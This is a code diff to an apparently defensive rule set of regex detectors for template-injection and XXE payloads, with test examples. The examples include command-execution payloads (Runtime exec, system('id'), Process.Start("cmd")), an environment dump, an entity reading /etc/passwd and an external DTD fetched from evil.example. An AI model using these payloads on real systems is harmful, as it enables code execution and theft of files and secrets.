@@ -28,7 +28,7 @@ const REACHES = [
   'config\\s{0,2}(?:\\}\\}|\\.items|\\[\\s{0,2}[\'"]\\w{0,20}(?:SECRET|KEY|PASSWORD|TOKEN))|settings\\.(?:SECRET_KEY|DATABASES)',
   '_self\\.env|_TemplateReference|request\\.(?:application|environ)|request\\s?\\|\\s?attr|request\\[[\'"]_',
   'app\\.request\\.server|dump\\(app|\\|\\s?(?:filter|map|reduce|sort)\\(\\s?[\'"](?:system|exec|passthru|shell_exec|assert)',
-  '\\.class\\.(?:base|mro|inspect|forName|classLoader)|self\\.(?:class\\.send|module\\.)|System\\.Diagnostics|Object\\.constants|import\\s{1,3}os\\b|\\.System\\s{1,3}"',
+  '\\.class\\.(?:base|mro|inspect|forName|classLoader)|self\\.(?:class\\.send|module\\.)|System\\.Diagnostics|Object\\.constants|import\\s{1,3}os\\b|(?<![a-z.])ENV\\.(?:to_h|to_a|inspect|each)\\b|\\.System\\s{1,3}"',
 ].join('|');
 const PRODUCT = '[\'"]?\\d{1,7}[\'"]?\\s{0,3}\\*\\s{0,3}[\'"]?\\d{1,7}[\'"]?\\s{0,3}';
 
@@ -43,9 +43,10 @@ export const templatePayloadRules: readonly Rule[] = [
     pattern: [
       `(?:(?<!\\$\\{)\\{\\{[-=#]?|\\$\\{\\{?|<%[=-]?|#\\{|\\{%|\\*\\{|@\\{|%\\{)[^{}%\\n]{0,160}?(?:${REACHES})[^\\n]{0,160}`,
       `(?:\\{\\{[=-]?|\\$\\{{1,2}|<%=|#\\{|\\*\\{|@\\{|@)\\s{0,3}\\(?${PRODUCT}(?:\\}|%>|\\))`,
-      '@System\\.(?:Diagnostics|IO|Reflection)\\.[^\\n]{0,120}',
+      '@\\(?System\\.(?:Diagnostics|IO|Reflection)\\.[^\\n]{0,120}',
       '\\{%\\s{0,3}(?:debug\\s{0,3}%|load\\s{1,3}log\\b|get_admin_log)',
       '<%=?\\s{0,3}`[^`\\n]{1,80}`',
+      '#\\{\\s{0,2}`(?:id|whoami|ls|env|uname|cat\\s)[^`\\n]{0,60}`',
     ].join('|'),
     examples: {
       match: [
@@ -54,6 +55,8 @@ export const templatePayloadRules: readonly Rule[] = [
         { text: `${'$'}{T(java.lang.Runtime).getRuntime().exec('id')}` },
         { text: "<%= system('id') %>" },
         { text: '@(7*7)' },
+        { text: '<%= ENV.to_h %>' },
+        { text: '@(System.Diagnostics.Process.Start("cmd"))' },
       ],
       no_match: [
         { text: '{{ user.name }}' },
@@ -61,6 +64,8 @@ export const templatePayloadRules: readonly Rule[] = [
         { text: `${'$'}{{ github.sha }}` },
         { text: '{{ config.title }}' },
         { text: '<%= @user.name %>' },
+        { text: '<%= ENV.fetch("HOME") %>' },
+        { text: '@(Model.System.Name)' },
         { text: '{{ items.length * 2 }}' },
       ],
     },
@@ -168,7 +173,7 @@ export const templatePayloadRules: readonly Rule[] = [
       '<!ENTITY\\s{1,4}(?:%\\s{1,3})?[\\w.-]{1,60}\\s{1,4}(?:SYSTEM|PUBLIC\\s{1,3}["\'][^"\'>]{0,100}["\'])\\s{1,4}["\'](?:\\w{2,9}:|/|\\\\|\\.\\.)[^"\'>]{1,300}["\']',
       '<!ENTITY\\s{1,4}(?:%\\s{1,3})?[\\w.-]{1,60}\\s{1,4}["\'](?:(?:&|%)[\\w.-]{1,30};\\s?){2,}',
       '<!ENTITY\\s{1,4}%\\s{1,3}[\\w.-]{1,60}\\s{1,4}["\']<!ENTITY',
-      '<!DOCTYPE\\s{1,4}[\\w:-]{1,40}\\s{1,4}(?:SYSTEM|PUBLIC\\s{1,3}["\'](?![-+]//)[^"\'>]{0,60}["\'])\\s{1,3}["\'](?:http|ftp|file|gopher):[^"\'>]{1,200}\\.dtd',
+      '<!DOCTYPE\\s{1,4}[\\w:-]{1,40}\\s{1,4}(?:SYSTEM|PUBLIC\\s{1,3}["\'][^"\'>]{0,100}["\'])\\s{1,3}["\'](?:(?:https?|ftp|file|gopher):[^"\'>]{1,200}\\.(?:dtd|ent|xml)|https?://\\d{1,3}\\.[^"\'>]{1,200})',
       '<xi:include\\s[^>]{0,200}?href\\s?=\\s?["\'](?:file:|https?://\\d|/etc/)[^>]{1,200}',
       '<xsl:(?:value-of|copy-of|variable|include|import)\\s[^>]{0,100}?(?:document\\(\\s?[\'"](?:file:|https?:|/etc)|php:function|unparsed-text\\()[^>]{0,200}',
       '<\\?xml-stylesheet\\s[^>]{0,100}?href\\s?=\\s?["\']https?://[^"\'>]{1,200}\\.xsl',
@@ -178,6 +183,7 @@ export const templatePayloadRules: readonly Rule[] = [
       match: [
         { text: '<!ENTITY xxe SYSTEM "file:///etc/passwd">' },
         { text: '<!DOCTYPE foo SYSTEM "http://evil.example/e.dtd"><foo/>' },
+        { text: '<!DOCTYPE r PUBLIC "-//A//B//EN" "http://files.example/x.dtd"><r/>' },
         { text: '<!ENTITY lol2 "&lol;&lol;&lol;&lol;">' },
       ],
       no_match: [
